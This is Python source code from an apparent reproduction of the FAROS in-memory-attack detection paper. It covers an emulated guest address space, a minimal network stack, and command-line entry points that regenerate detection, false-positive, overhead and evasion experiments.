PERM_RW = PERM_R | PERM_W
PERM_RX = PERM_R | PERM_X
PERM_RWX = PERM_R | PERM_W | PERM_X

_ACCESS_NEEDS = {
    AccessKind.READ: PERM_R,
    AccessKind.WRITE: PERM_W,
    AccessKind.FETCH: PERM_X,
}


def perm_str(perms: int) -> str:
    """Render a permission mask like ``"rw-"``."""
    return (
        ("r" if perms & PERM_R else "-")
        + ("w" if perms & PERM_W else "-")
        + ("x" if perms & PERM_X else "-")
    )


@dataclass
class VirtualArea:
    """One contiguous mapped region -- the analog of a Windows VAD.

    :ivar private: True for process-private anonymous memory (the kind
        ``malfind`` scrutinises); False for shared mappings such as the
        kernel module.
    :ivar module: name of the backing module for image/DLL mappings,
        ``None`` for anonymous memory.  ``malfind`` treats executable
        anonymous memory as suspicious precisely because this is None.
    """

    start: int
    size: int
    perms: int
    name: str
    private: bool = True
    module: Optional[str] = None

    @property
    def end(self) -> int:
        return self.start + self.size

    def contains(self, vaddr: int) -> bool:
        return self.start <= vaddr < self.end

    def __repr__(self) -> str:
        return (
            f"VirtualArea({self.start:#x}-{self.end:#x} {perm_str(self.perms)} "
            f"{self.name!r}{' module=' + self.module if self.module else ''})"
        )


@dataclass
class _PageEntry:
    frame: int
    perms: int
    owned: bool  # True if this address space owns (and must free) the frame


class AddressSpace:
    """A paged virtual address space over shared physical memory."""

    def __init__(self, asid: int, allocator: FrameAllocator) -> None:
        #: Architectural id of this address space (the paper's CR3 value).
        self.asid = asid
        self._allocator = allocator
        self._pages: Dict[int, _PageEntry] = {}
        self.areas: List[VirtualArea] = []
        #: Mapping-mutation counter: bumped by every operation that can
        #: change what :meth:`translate` returns (map/unmap/protect/
        #: teardown).  Consumers that cache translation *results* -- the
        #: block translator's per-block data-footprint summaries -- key
        #: them on this epoch so a remap invalidates them without any
        #: per-translate bookkeeping.
        self.epoch = 0

    # -- MMU protocol -------------------------------------------------------------

    def translate(self, vaddr: int, access: AccessKind) -> int:
        """Translate *vaddr* or raise :class:`PageFault`."""
        entry = self._pages.get(vaddr >> PAGE_SHIFT)
        if entry is None:
            raise PageFault(vaddr, access.value, "unmapped")
        if not entry.perms & _ACCESS_NEEDS[access]:
            raise PageFault(
                vaddr, access.value, f"permission denied ({perm_str(entry.perms)})"
            )
        return (entry.frame << PAGE_SHIFT) | (vaddr & (PAGE_SIZE - 1))

    def translate_range(self, vaddr: int, n: int, access: AccessKind) -> Tuple[int, ...]:
        """Translate each byte of an *n*-byte buffer (kernel copy helper)."""
        return tuple(self.translate(vaddr + i, access) for i in range(n))

    # -- mapping operations ---------------------------------------------------------

    def map_region(self, vaddr: int, size: int, perms: int, name: str) -> VirtualArea:
        """Allocate fresh frames and map them at *vaddr*; returns the VAD."""
        self._check_region(vaddr, size)
        n_pages = _pages_for(size)
        for i, frame in enumerate(self._allocator.alloc_many(n_pages)):
            self._pages[(vaddr >> PAGE_SHIFT) + i] = _PageEntry(frame, perms, owned=True)
        area = VirtualArea(vaddr, n_pages * PAGE_SIZE, perms, name)
        self._insert_area(area)
        self.epoch += 1
        return area

    def map_shared(
        self, vaddr: int, frames: List[int], perms: int, name: str, module: Optional[str]
    ) -> VirtualArea:
        """Map existing *frames* (owned elsewhere) at *vaddr* -- shared memory."""
        self._check_region(vaddr, len(frames) * PAGE_SIZE)
        for i, frame in enumerate(frames):
            self._pages[(vaddr >> PAGE_SHIFT) + i] = _PageEntry(frame, perms, owned=False)
        area = VirtualArea(
            vaddr, len(frames) * PAGE_SIZE, perms, name, private=False, module=module
        )
        self._insert_area(area)
        self.epoch += 1
        return area

    def unmap_region(self, vaddr: int) -> VirtualArea:
        """Unmap the area starting at *vaddr*; frees owned frames.

        This is what ``NtUnmapViewOfSection`` bottoms out in during
        process hollowing.
        """
        area = self.area_at(vaddr)
        if area is None or area.start != vaddr:
            raise PageFault(vaddr, "unmap", "no area starts here")
        for vpn in range(area.start >> PAGE_SHIFT, area.end >> PAGE_SHIFT):
            entry = self._pages.pop(vpn)
            if entry.owned:
                self._allocator.free(entry.frame)
        self.areas.remove(area)
        self.epoch += 1
        return area

    def protect_region(self, vaddr: int, size: int, perms: int) -> None:
        """Change permissions for all pages overlapping [vaddr, vaddr+size).

        The VAD record keeps the *union* of page permissions so that a
        region made executable anywhere shows as executable to forensic
        scans (how ``malfind`` sees VirtualProtect'd payload pages).
        """
        first = vaddr >> PAGE_SHIFT
        last = (vaddr + max(size, 1) - 1) >> PAGE_SHIFT
        touched = False
        for vpn in range(first, last + 1):
            entry = self._pages.get(vpn)
            if entry is not None:
                entry.perms = perms
                touched = True
        if not touched:
            raise PageFault(vaddr, "protect", "unmapped")
        for area in self.areas:
            if area.start < (last + 1) << PAGE_SHIFT and area.end > vaddr:
                area.perms |= perms
        self.epoch += 1

    def release_all(self) -> None:
        """Free every owned frame (process teardown)."""
        for entry in self._pages.values():
            if entry.owned:
                self._allocator.free(entry.frame)
        self._pages.clear()
        self.areas.clear()
        self.epoch += 1

    # -- queries ----------------------------------------------------------------------

    def area_at(self, vaddr: int) -> Optional[VirtualArea]:
        """Return the VAD containing *vaddr*, if any."""
        for area in self.areas:
            if area.contains(vaddr):
                return area
        return None

    def is_mapped(self, vaddr: int) -> bool:
        return (vaddr >> PAGE_SHIFT) in self._pages

    def find_free(self, size: int, lo: int, hi: int) -> int:
        """Find the lowest free region of *size* bytes within [lo, hi)."""
        n_pages = _pages_for(size)
        vpn = lo >> PAGE_SHIFT
        end_vpn = hi >> PAGE_SHIFT
        while vpn + n_pages <= end_vpn:
            if all((vpn + i) not in self._pages for i in range(n_pages)):
                return vpn << PAGE_SHIFT
            vpn += 1
        raise GuestResourceExhausted(
            "address space", f"no free region of {size} bytes in [{lo:#x}, {hi:#x})"
        )

    # -- internals ----------------------------------------------------------------------

    def _check_region(self, vaddr: int, size: int) -> None:
        if vaddr % PAGE_SIZE:
            raise ValueError(f"region base {vaddr:#x} not page-aligned")
        if size <= 0:
            raise ValueError("region size must be positive")
        for i in range(_pages_for(size)):
            if (vaddr >> PAGE_SHIFT) + i in self._pages:
                raise ValueError(f"overlapping mapping at {vaddr + i * PAGE_SIZE:#x}")

    def _insert_area(self, area: VirtualArea) -> None:
        self.areas.append(area)
        self.areas.sort(key=lambda a: a.start)


def _pages_for(size: int) -> int:
    return (size + PAGE_SIZE - 1) >> PAGE_SHIFT
