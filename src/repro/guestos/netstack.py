"""A minimal connection-oriented network stack.

Just enough TCP shape for the paper's scenarios: guests create sockets,
``connect`` out or ``listen``/``accept`` in, and exchange byte streams.
Handshakes are implicit (a first inbound packet to a listening port
establishes the connection), which keeps the wire format to bare
:class:`~repro.emulator.devices.Packet` payloads.

Received payload bytes are *not* buffered in Python objects: they live in
the NIC DMA ring in guest **physical memory** and sockets queue
``(paddr..., length)`` segment descriptors.  ``recv`` then copies DMA
bytes into the user buffer through the machine's instrumented physical
copy -- so netflow taint planted on the DMA bytes flows to the
application exactly as in whole-system DIFT.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Deque, Dict, List, Optional, Tuple
from collections import deque

from repro.emulator.devices import Packet


class NetError(Exception):
    """Guest-visible network failure."""


@dataclass
class Segment:
    """One received chunk: physical locations of its bytes in the DMA ring."""

    paddrs: Tuple[int, ...]
    offset: int = 0  # how much of it recv() has already consumed

    @property
    def remaining(self) -> int:
        return len(self.paddrs) - self.offset


@dataclass
class Socket:
    """One guest socket endpoint."""

    sock_id: int
    owner_pid: int
    local_ip: str
    local_port: int = 0
    remote_ip: str = ""
    remote_port: int = 0
    listening: bool = False
    connected: bool = False
    rx: Deque[Segment] = field(default_factory=deque)
    accept_queue: Deque["Socket"] = field(default_factory=deque)
    closed: bool = False

    @property
    def flow(self) -> Tuple[str, int, str, int]:
        """(remote_ip, remote_port, local_ip, local_port) -- inbound view."""
        return (self.remote_ip, self.remote_port, self.local_ip, self.local_port)

    def rx_available(self) -> int:
        return sum(seg.remaining for seg in self.rx)


class NetStack:
    """Socket registry and inbound packet demultiplexer."""

    def __init__(self, local_ip: str) -> None:
        self.local_ip = local_ip
        self._sockets: Dict[int, Socket] = {}
        self._next_id = 1
        self._next_ephemeral = 49152
        #: Flows that carried inbound data, for reports: 4-tuples.
        self.seen_flows: List[Tuple[str, int, str, int]] = []

    def create(self, owner_pid: int) -> Socket:
        sock = Socket(self._next_id, owner_pid, self.local_ip)
        self._sockets[sock.sock_id] = sock
        self._next_id += 1
        return sock

    def get(self, sock_id: int) -> Socket:
        sock = self._sockets.get(sock_id)
        if sock is None or sock.closed:
            raise NetError(f"bad socket id {sock_id}")
        return sock

    def connect(self, sock: Socket, ip: str, port: int) -> None:
        """Outbound connect; succeeds immediately (implicit handshake)."""
        if sock.connected or sock.listening:
            raise NetError("socket already in use")
        sock.remote_ip, sock.remote_port = ip, port
        sock.local_port = self._next_ephemeral
        self._next_ephemeral += 1
        sock.connected = True

    def listen(self, sock: Socket, port: int) -> None:
        if sock.connected or sock.listening:
            raise NetError("socket already in use")
        for other in self._sockets.values():
            if other.listening and other.local_port == port and not other.closed:
                raise NetError(f"port {port} already bound")
        sock.local_port = port
        sock.listening = True

    def close(self, sock: Socket) -> None:
        sock.closed = True

    def deliver(self, packet: Packet, paddrs: Tuple[int, ...]) -> Optional[Socket]:
        """Route an inbound packet's DMA bytes to a socket.

        Returns the socket whose rx queue (or accept queue) changed, or
        ``None`` if no endpoint matched (the packet is dropped).
        """
        # Established connection match first (exact 4-tuple).
        for sock in self._sockets.values():
            if (
                sock.connected
                and not sock.closed
                and sock.remote_ip == packet.src_ip
                and sock.remote_port == packet.src_port
                and sock.local_port == packet.dst_port
            ):
                if paddrs:
                    sock.rx.append(Segment(paddrs))
                self._note_flow(packet)
                return sock
        # Listener match: implicit handshake creates the connected child.
        for sock in self._sockets.values():
            if sock.listening and not sock.closed and sock.local_port == packet.dst_port:
                child = self.create(sock.owner_pid)
                child.local_port = sock.local_port
                child.remote_ip, child.remote_port = packet.src_ip, packet.src_port
                child.connected = True
                if paddrs:
                    child.rx.append(Segment(paddrs))
                sock.accept_queue.append(child)
                self._note_flow(packet)
                return sock
        return None

    def _note_flow(self, packet: Packet) -> None:
        flow = packet.flow
        if flow not in self.seen_flows:
            self.seen_flows.append(flow)

    def consume(self, sock: Socket, n: int) -> Tuple[int, ...]:
        """Dequeue up to *n* received bytes; returns their DMA paddrs."""
        out: List[int] = []
        while sock.rx and len(out) < n:
            seg = sock.rx[0]
            take = min(seg.remaining, n - len(out))
            out.extend(seg.paddrs[seg.offset : seg.offset + take])
            seg.offset += take
            if seg.remaining == 0:
                sock.rx.popleft()
        return tuple(out)
