"""Command-line interface: ``python -m repro <command>``.

One subcommand per paper artifact, so the whole evaluation can be
regenerated from a shell::

    python -m repro detect        # Figs. 7-10: the six attacks
    python -m repro table2        # FAROS output sample
    python -m repro table3        # JIT false positives
    python -m repro table4        # corpus false positives (--full: all 104)
    python -m repro table5        # overhead measurement
    python -m repro compare       # FAROS vs Cuckoo vs Cuckoo+malfind
    python -m repro indirect      # Figs. 1-2 policy dilemma
    python -m repro evasion       # §VI-D evasion studies
    python -m repro stats         # observability snapshot for one attack
    python -m repro all           # everything above

**Uniform flags.**  Every experiment subcommand accepts ``--json [OUT]``
-- write the machine-readable results to OUT, ``-`` (the default when
the flag is given bare) meaning stdout.  The batch commands (``detect``,
``table3``, ``table4``, ``compare``, ``all``) also accept ``--jobs N``
to shard samples over N worker processes (output is byte-identical to
serial), ``--timeout S`` for a per-sample wall-clock bound, and
``--metrics`` to collect per-job observability telemetry (counters,
phase spans, hot blocks) into each result row.
"""

from __future__ import annotations

import argparse
import sys
from typing import Callable, Dict, List, Optional


def _triage_kwargs(args: argparse.Namespace) -> dict:
    return {
        "jobs": getattr(args, "jobs", 1),
        "timeout": getattr(args, "timeout", None),
        "metrics": getattr(args, "metrics", False),
        "taint_pipeline": getattr(args, "taint_pipeline", None),
    }


def _triage_payload(command: str, args: argparse.Namespace, rows) -> dict:
    return {
        "command": command,
        "jobs": getattr(args, "jobs", 1),
        "timeout": getattr(args, "timeout", None),
        "results": [row.result.to_json_dict() for row in rows if row.result],
    }


def _cmd_detect(args: argparse.Namespace) -> Optional[dict]:
    from repro.analysis.experiments import detection_suite
    from repro.analysis.tables import render_detection_suite

    rows = detection_suite(**_triage_kwargs(args))
    print(render_detection_suite(rows))
    return _triage_payload("detect", args, rows)


def _cmd_table2(args: argparse.Namespace) -> Optional[dict]:
    from repro.analysis.experiments import table2_analysis

    analysis = table2_analysis(metrics=getattr(args, "metrics", False))
    print(analysis.report.render())
    return {
        "command": "table2",
        "attack": analysis.name,
        "detected": analysis.detected,
        "report": analysis.report.to_json_dict(),
    }


def _cmd_table3(args: argparse.Namespace) -> Optional[dict]:
    from repro.analysis.experiments import jit_fp_experiment
    from repro.analysis.tables import render_table3

    rows = jit_fp_experiment(**_triage_kwargs(args))
    print(render_table3(rows))
    return _triage_payload("table3", args, rows)


def _cmd_table4(args: argparse.Namespace) -> Optional[dict]:
    from repro.analysis.experiments import corpus_fp_experiment
    from repro.analysis.tables import render_table4

    limit = None if args.full else 21
    if not args.full:
        print("(one variant per family; pass --full for all 104 samples)")
    rows = corpus_fp_experiment(limit=limit, **_triage_kwargs(args))
    print(render_table4(rows))
    return _triage_payload("table4", args, rows)


def _cmd_table5(args: argparse.Namespace) -> Optional[dict]:
    from repro.analysis.experiments import overhead_experiment
    from repro.analysis.tables import render_table5

    rows = overhead_experiment(repeat=args.repeat)
    print(render_table5(rows))
    return {
        "command": "table5",
        "repeat": args.repeat,
        "results": [
            {
                "application": row.application,
                "replay_seconds": row.replay_seconds,
                "faros_seconds": row.faros_seconds,
                "instructions": row.instructions,
                "slowdown": row.slowdown,
            }
            for row in rows
        ],
    }


def _cmd_compare(args: argparse.Namespace) -> Optional[dict]:
    from repro.analysis.experiments import comparison_matrix
    from repro.analysis.tables import render_comparison_matrix

    rows = comparison_matrix(include_transient=True, **_triage_kwargs(args))
    print(render_comparison_matrix(rows))
    return _triage_payload("compare", args, rows)


def _cmd_indirect(args: argparse.Namespace) -> Optional[dict]:
    from repro.analysis.indirect_flows import (
        indirect_flow_experiment,
        render_indirect_flow_table,
    )

    results = indirect_flow_experiment()
    print(render_indirect_flow_table(results))
    return {
        "command": "indirect",
        "results": [
            {
                "figure": r.figure,
                "policy": r.policy,
                "output_tainted": r.output_tainted,
                "output_value_correct": r.output_value_correct,
                "tainted_bytes": r.tainted_bytes,
            }
            for r in results
        ],
    }


def _cmd_evasion(args: argparse.Namespace) -> Optional[dict]:
    from repro.analysis.evasion import (
        stub_scanner_experiment,
        tag_pressure_experiment,
        taint_laundering_experiment,
    )

    laundering = taint_laundering_experiment()
    print("E12a -- control-dependency taint laundering (§VI-D)")
    print(f"  stage executed            : {laundering.stage_ran}")
    print(f"  default policy detected   : {laundering.default_policy_detected}")
    print(f"  control-dep policy caught : {laundering.control_dep_policy_detected}")
    print()
    scanner = stub_scanner_experiment()
    print("E12b -- stub-scanning resolver (export table avoided)")
    print(f"  stage executed            : {scanner.stage_ran}")
    print(f"  default policy detected   : {scanner.default_policy_detected}")
    print(f"  kernel-code policy caught : {scanner.kernel_code_policy_detected}")
    print()
    pressure = tag_pressure_experiment()
    print("E12c -- tag-memory pressure")
    print(f"  file tags minted          : {pressure.file_tags}")
    print(f"  netflow tags minted       : {pressure.netflow_tags}")
    print(f"  map capacity (per type)   : {pressure.map_capacity}")
    return {
        "command": "evasion",
        "laundering": {
            "stage_ran": laundering.stage_ran,
            "default_policy_detected": laundering.default_policy_detected,
            "control_dep_policy_detected": laundering.control_dep_policy_detected,
        },
        "stub_scanner": {
            "stage_ran": scanner.stage_ran,
            "default_policy_detected": scanner.default_policy_detected,
            "kernel_code_policy_detected": scanner.kernel_code_policy_detected,
        },
        "tag_pressure": {
            "file_tags": pressure.file_tags,
            "netflow_tags": pressure.netflow_tags,
            "process_tags": pressure.process_tags,
            "tainted_bytes": pressure.tainted_bytes,
            "map_capacity": pressure.map_capacity,
        },
    }


_TIMELINE_ATTACKS = {
    "reflective": "build_reflective_dll_scenario",
    "hollowing": "build_process_hollowing_scenario",
    "code": "build_code_injection_scenario",
    "dropper": "build_drop_reload_scenario",
    "atombombing": "build_atombombing_scenario",
}


def _cmd_timeline(args: argparse.Namespace) -> Optional[dict]:
    import repro.attacks as attacks
    from repro.faros import Faros
    from repro.obs.session import ObsSession

    builder = getattr(attacks, _TIMELINE_ATTACKS[args.attack])
    session = ObsSession.create(enabled=getattr(args, "metrics", False))
    with session.span("boot"):
        attack = builder()
    faros = Faros(metrics=session.registry,
                  taint_pipeline=getattr(args, "taint_pipeline", None))
    with session.span("detection"):
        attack.scenario.run(plugins=session.plugins_for(faros),
                            metrics=session.registry)
    with session.span("report"):
        report = faros.report()
    if session.enabled:
        report.metrics = session.snapshot()
    print(faros.render_timeline())
    print()
    print(report.render())
    return {
        "command": "timeline",
        "attack": args.attack,
        "timeline": [
            {"tick": e.tick, "kind": e.kind, "description": e.description}
            for e in faros.timeline
        ],
        "report": report.to_json_dict(),
    }


#: The attack roster ``repro stats`` can profile (the triage engine's
#: attack-kind builders; kept literal so parsing stays import-free).
_STATS_ATTACKS = (
    "bypassuac_injection",
    "code_injection",
    "darkcomet_injection",
    "njrat_injection",
    "process_hollowing",
    "reflective_dll_inject",
    "reverse_tcp_dns",
)


def _cmd_stats(args: argparse.Namespace) -> Optional[dict]:
    """One fully instrumented attack analysis, rendered as a snapshot.

    Runs through :func:`~repro.analysis.triage.execute_job` -- the same
    code path a ``--metrics`` triage batch uses -- so the numbers here
    are identical to what the triage JSON export carries for this job.
    """
    from repro.analysis.triage import TriageJob, execute_job
    from repro.obs.render import render_snapshot

    params = {
        "attack": args.attack,
        "metrics": True,
        "sample_every": args.sample_every,
        "top_blocks": args.top,
    }
    if getattr(args, "taint_pipeline", None):
        params["taint_pipeline"] = args.taint_pipeline
    job = TriageJob(job_id=0, name=args.attack, kind="attack", params=params)
    result = execute_job(job)
    if not result.ok:
        print(f"stats run failed: {result.error}", file=sys.stderr)
        raise SystemExit(1)
    print(render_snapshot(result.metrics, title=f"{args.attack} snapshot"))
    print(f"-- verdict: {'FLAGGED' if result.verdict else 'clean'}, "
          f"wall clock {result.duration_s:.3f}s")
    return {
        "command": "stats",
        "attack": args.attack,
        "result": result.to_json_dict(),
    }


def _cmd_chaos(args: argparse.Namespace) -> Optional[dict]:
    """The fault-injection matrix: every attack under every fault spec.

    ``--smoke`` additionally asserts the degradation contract (no ERROR
    rows, every faulted row carries a fault record, always-firing specs
    fire) plus a replay-determinism probe, exiting 1 on any violation.
    """
    from repro.analysis.chaos import (
        FAULT_SPECS,
        render_chaos_matrix,
        replay_determinism_probe,
        run_chaos_matrix,
        smoke_violations,
    )

    results = run_chaos_matrix(
        attacks=args.attack or None,
        fault_names=args.fault or None,
        jobs=args.jobs,
        timeout=args.timeout,
        metrics=getattr(args, "metrics", False),
        taint_pipeline=getattr(args, "taint_pipeline", None),
    )
    print(render_chaos_matrix(results))
    payload = {
        "command": "chaos",
        "jobs": args.jobs,
        "timeout": args.timeout,
        "specs": {name: spec.description for name, spec in FAULT_SPECS.items()},
        "results": [r.to_json_dict() for r in results],
    }
    if args.smoke:
        violations = list(smoke_violations(results))
        probe_attack = (args.attack or ["reflective_dll_inject"])[0]
        # Harness columns are host-layer and deliberately nondeterministic
        # (worker pids, kill ticks); the byte-identity probe only applies
        # to plan-driven specs.
        plan_faults = [name for name in (args.fault or ["syscall-fault"])
                       if FAULT_SPECS[name].harness is None]
        if plan_faults:
            identical, detail = replay_determinism_probe(
                probe_attack, plan_faults[0])
        else:
            identical, detail = True, "skipped: only harness specs selected"
        print(f"replay determinism probe: {detail}")
        if not identical:
            violations.append(f"determinism probe failed: {detail}")
        payload["violations"] = violations
        payload["determinism_probe"] = {"ok": identical, "detail": detail}
        if violations:
            for v in violations:
                print(f"VIOLATION: {v}", file=sys.stderr)
            destination = getattr(args, "json", None)
            if isinstance(destination, str):
                _write_json(destination, payload)
            raise SystemExit(1)
        print("chaos smoke: degradation contract held across "
              f"{len(results)} cells")
    return payload


def _cmd_serve(args: argparse.Namespace) -> Optional[dict]:
    """The crash-safe triage service (or its end-to-end smoke).

    Plain ``repro serve --socket S --journal J`` blocks until a client
    sends the ``shutdown`` op; ``--smoke`` instead drives the full
    kill-and-restart scenario against a child service and exits 1 on
    any lost job, duplicated execution, or baseline mismatch.
    """
    from repro.serve.service import ServeConfig, run_service, run_smoke

    if args.smoke:
        import tempfile

        workdir = args.workdir or tempfile.mkdtemp(prefix="repro-serve-smoke-")
        try:
            summary = run_smoke(workdir, workers=args.jobs)
        except AssertionError as exc:
            print(f"serve smoke FAILED: {exc}", file=sys.stderr)
            raise SystemExit(1)
        print("serve smoke: mixed batch + injected crash + kill/restart "
              f"resume all held ({summary['phase1_jobs']} + "
              f"{summary['phase2_jobs']} jobs, exactly-once)")
        return {"command": "serve", "smoke": summary}
    if not args.socket or not args.journal:
        raise SystemExit("repro serve: --socket and --journal are required "
                         "(or use --smoke)")
    run_service(ServeConfig(
        socket_path=args.socket,
        journal_path=args.journal,
        workers=args.jobs,
        timeout=args.timeout,
        max_inflight=args.max_inflight,
        max_queued=args.max_queued,
        tenant_quota=args.quota,
    ))
    return None


def _cmd_all(args: argparse.Namespace) -> Optional[dict]:
    payloads = {}
    for name in ("detect", "table2", "table3", "table4", "table5", "compare",
                 "indirect", "evasion"):
        print(f"\n{'=' * 70}\n== {name}\n{'=' * 70}")
        payload = _COMMANDS[name](args)
        if payload is not None:
            payloads[name] = payload
    return {"command": "all", "results": payloads}


_COMMANDS: Dict[str, Callable[[argparse.Namespace], Optional[dict]]] = {
    "detect": _cmd_detect,
    "table2": _cmd_table2,
    "table3": _cmd_table3,
    "table4": _cmd_table4,
    "table5": _cmd_table5,
    "compare": _cmd_compare,
    "indirect": _cmd_indirect,
    "evasion": _cmd_evasion,
    "timeline": _cmd_timeline,
    "stats": _cmd_stats,
    "chaos": _cmd_chaos,
    "serve": _cmd_serve,
    "all": _cmd_all,
}


def _add_json_flag(sub: argparse.ArgumentParser) -> None:
    """The uniform ``--json [OUT]`` contract every subcommand shares:
    bare ``--json`` means stdout, ``--json PATH`` writes a file."""
    sub.add_argument(
        "--json", nargs="?", const="-", default=None, metavar="OUT",
        help="also write machine-readable results as JSON "
             "(to OUT, or stdout when no OUT is given)",
    )


def _add_metrics_flag(sub: argparse.ArgumentParser) -> None:
    sub.add_argument(
        "--metrics", action="store_true",
        help="collect observability telemetry (counters, phase spans, "
             "hot blocks) into the results",
    )


def _add_pipeline_flag(sub: argparse.ArgumentParser) -> None:
    sub.add_argument(
        "--taint-pipeline", choices=("inline", "batched", "worker"),
        default=None, metavar="MODE",
        help="taint event pipeline: inline (synchronous, the default), "
             "batched (bounded FIFO, in-process consumer), or worker "
             "(per-guest consumer process)",
    )


def _add_triage_flags(sub: argparse.ArgumentParser) -> None:
    sub.add_argument(
        "--jobs", type=int, default=1, metavar="N",
        help="shard samples over N worker processes (1 = in-process serial)",
    )
    sub.add_argument(
        "--timeout", type=float, default=None, metavar="S",
        help="per-sample wall-clock timeout in seconds (needs --jobs >= 2)",
    )
    _add_pipeline_flag(sub)
    _add_metrics_flag(sub)
    _add_json_flag(sub)


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="FAROS reproduction: regenerate the paper's evaluation artifacts.",
    )
    sub = parser.add_subparsers(dest="command", required=True)
    detect = sub.add_parser("detect", help="run the six in-memory attacks under FAROS")
    _add_triage_flags(detect)
    table2 = sub.add_parser("table2", help="FAROS provenance output sample")
    _add_metrics_flag(table2)
    _add_json_flag(table2)
    table3 = sub.add_parser("table3", help="JIT false-positive study")
    _add_triage_flags(table3)
    table4 = sub.add_parser("table4", help="corpus false-positive study")
    table4.add_argument("--full", action="store_true", help="run all 104 samples")
    _add_triage_flags(table4)
    table5 = sub.add_parser("table5", help="FAROS overhead measurement")
    table5.add_argument("--repeat", type=int, default=3, help="timing repetitions")
    _add_json_flag(table5)
    compare = sub.add_parser("compare", help="FAROS vs Cuckoo vs Cuckoo+malfind")
    _add_triage_flags(compare)
    indirect = sub.add_parser("indirect", help="Figs. 1-2 indirect-flow dilemma")
    _add_json_flag(indirect)
    evasion = sub.add_parser("evasion", help="§VI-D evasion studies")
    _add_json_flag(evasion)
    timeline = sub.add_parser("timeline", help="analysis timeline for one attack")
    timeline.add_argument(
        "attack",
        choices=sorted(_TIMELINE_ATTACKS),
        help="which attack scenario to analyse",
    )
    _add_pipeline_flag(timeline)
    _add_metrics_flag(timeline)
    _add_json_flag(timeline)
    stats = sub.add_parser(
        "stats", help="instrumented analysis of one attack (metrics snapshot)"
    )
    stats.add_argument(
        "attack", choices=_STATS_ATTACKS, help="which attack to analyse"
    )
    stats.add_argument(
        "--top", type=int, default=10, metavar="N",
        help="how many hot blocks to rank (default 10)",
    )
    stats.add_argument(
        "--sample-every", type=int, default=1, metavar="N",
        help="profile every Nth retired instruction (default 1 = exact)",
    )
    _add_pipeline_flag(stats)
    _add_json_flag(stats)
    chaos = sub.add_parser(
        "chaos",
        help="fault-injection matrix: attacks x deterministic fault specs",
    )
    chaos.add_argument(
        "--attack", action="append", choices=_STATS_ATTACKS, metavar="NAME",
        help="restrict to this attack (repeatable; default: all)",
    )
    chaos.add_argument(
        "--fault", action="append", metavar="SPEC",
        help="restrict to this fault spec (repeatable; default: all)",
    )
    chaos.add_argument(
        "--smoke", action="store_true",
        help="assert the degradation contract and replay determinism; "
             "exit 1 on any violation",
    )
    _add_triage_flags(chaos)
    serve = sub.add_parser(
        "serve",
        help="crash-safe triage service: journaled queue over a Unix socket",
    )
    serve.add_argument(
        "--socket", metavar="PATH", default=None,
        help="Unix socket path to listen on",
    )
    serve.add_argument(
        "--journal", metavar="PATH", default=None,
        help="job journal path (created on first run, replayed on restart)",
    )
    serve.add_argument(
        "--jobs", type=int, default=2, metavar="N",
        help="supervised worker processes (default 2)",
    )
    serve.add_argument(
        "--timeout", type=float, default=None, metavar="S",
        help="per-job wall-clock timeout in seconds",
    )
    serve.add_argument(
        "--max-inflight", type=int, default=None, metavar="N",
        help="concurrent dispatched jobs (default: worker count)",
    )
    serve.add_argument(
        "--max-queued", type=int, default=1024, metavar="N",
        help="queued jobs before submits are rejected (default 1024)",
    )
    serve.add_argument(
        "--quota", type=int, default=None, metavar="N",
        help="outstanding-job quota per tenant (default: none)",
    )
    serve.add_argument(
        "--smoke", action="store_true",
        help="run the end-to-end smoke (mixed batch, injected worker "
             "crash, kill-and-restart resume); exit 1 on any violation",
    )
    serve.add_argument(
        "--workdir", metavar="DIR", default=None,
        help="--smoke working directory (default: a fresh temp dir)",
    )
    _add_json_flag(serve)
    everything = sub.add_parser("all", help="regenerate every artifact")
    everything.add_argument("--full", action="store_true", help="full corpus")
    everything.add_argument("--repeat", type=int, default=3)
    _add_triage_flags(everything)
    return parser


def _write_json(destination: str, payload: dict) -> None:
    import json

    text = json.dumps(payload, indent=2, sort_keys=True)
    if destination == "-":
        print(text)
    else:
        with open(destination, "w", encoding="utf-8") as fh:
            fh.write(text + "\n")


def main(argv: Optional[List[str]] = None) -> int:
    args = build_parser().parse_args(argv)
    payload = _COMMANDS[args.command](args)
    destination = getattr(args, "json", None)
    if payload is not None and isinstance(destination, str):
        _write_json(destination, payload)
    return 0


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
