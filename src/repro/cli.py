"""Command-line interface: ``python -m repro <command>``.

One subcommand per paper artifact, so the whole evaluation can be
regenerated from a shell::

    python -m repro detect        # Figs. 7-10: the six attacks
    python -m repro table2        # FAROS output sample
    python -m repro table3        # JIT false positives
    python -m repro table4        # corpus false positives (--full: all 104)
    python -m repro table5        # overhead measurement
    python -m repro compare       # FAROS vs Cuckoo vs Cuckoo+malfind
    python -m repro indirect      # Figs. 1-2 policy dilemma
    python -m repro evasion       # §VI-D evasion studies
    python -m repro all           # everything above

The batch commands (``detect``, ``table3``, ``table4``, ``compare``,
``all``) accept ``--jobs N`` to shard samples over N worker processes
(output is byte-identical to serial), ``--timeout S`` for a per-sample
wall-clock bound, and ``--json OUT`` to additionally write the
machine-readable triage results (``-`` = stdout).
"""

from __future__ import annotations

import argparse
import sys
from typing import Callable, Dict, List, Optional


def _triage_kwargs(args: argparse.Namespace) -> dict:
    return {
        "jobs": getattr(args, "jobs", 1),
        "timeout": getattr(args, "timeout", None),
    }


def _triage_payload(command: str, args: argparse.Namespace, rows) -> dict:
    return {
        "command": command,
        "jobs": getattr(args, "jobs", 1),
        "timeout": getattr(args, "timeout", None),
        "results": [row.result.to_dict() for row in rows if row.result],
    }


def _cmd_detect(args: argparse.Namespace) -> Optional[dict]:
    from repro.analysis.experiments import detection_suite
    from repro.analysis.tables import render_detection_suite

    rows = detection_suite(**_triage_kwargs(args))
    print(render_detection_suite(rows))
    return _triage_payload("detect", args, rows)


def _cmd_table2(args: argparse.Namespace) -> None:
    from repro.analysis.experiments import table2_output

    print(table2_output())


def _cmd_table3(args: argparse.Namespace) -> Optional[dict]:
    from repro.analysis.experiments import jit_fp_experiment
    from repro.analysis.tables import render_table3

    rows = jit_fp_experiment(**_triage_kwargs(args))
    print(render_table3(rows))
    return _triage_payload("table3", args, rows)


def _cmd_table4(args: argparse.Namespace) -> Optional[dict]:
    from repro.analysis.experiments import corpus_fp_experiment
    from repro.analysis.tables import render_table4

    limit = None if args.full else 21
    if not args.full:
        print("(one variant per family; pass --full for all 104 samples)")
    rows = corpus_fp_experiment(limit=limit, **_triage_kwargs(args))
    print(render_table4(rows))
    return _triage_payload("table4", args, rows)


def _cmd_table5(args: argparse.Namespace) -> None:
